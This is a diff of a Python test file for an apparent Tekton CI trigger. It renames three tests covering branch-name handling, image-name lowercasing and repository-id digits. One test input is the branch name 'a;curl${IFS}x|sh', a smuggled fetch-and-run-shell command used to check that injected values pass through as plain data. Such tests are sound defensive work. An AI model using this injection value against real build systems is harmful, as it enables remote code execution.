@@ -120,7 +120,7 @@ def test_a_branch_that_tekton_would_take_for_a_variable_starts_nothing(where: st
         assert _started(changed(github(), where, ref)) == []
 
 
-def test_its_like_without_the_parenthesis_is_a_branch_as_any_other() -> None:
+def test_a_branch_without_the_parenthesis_is_an_ordinary_branch() -> None:
     [(_, params)] = _started(changed(github(), "pull_request.head.ref", "a;curl${IFS}x|sh"))
     assert params["git-ref"] == "a;curl${IFS}x|sh"
 
@@ -131,7 +131,7 @@ def test_the_image_is_tagged_by_pull_request_and_commit() -> None:
 
 
 @pytest.mark.parametrize("name", ["Hello-World", "SHOP", "shop"])
-def test_an_image_has_no_capitals(name: str) -> None:
+def test_the_name_of_an_image_has_no_capitals(name: str) -> None:
     [(_, params)] = _started(changed(github(), "repository.name", name))
     assert (params["image-name"], params["repo-name"]) == (name.lower(), name)
     [template] = [
@@ -144,7 +144,7 @@ def test_an_image_has_no_capitals(name: str) -> None:
     assert images == ["registry.example.com/$(tt.params.image-name)"]
 
 
-def test_a_large_number_of_a_repository_stays_its_digits() -> None:
+def test_a_large_repository_number_keeps_all_its_digits() -> None:
     [(_, params)] = _started(changed(github(), "repository.id", 1234567890))
     assert params["repository-id"] == "1234567890"
 
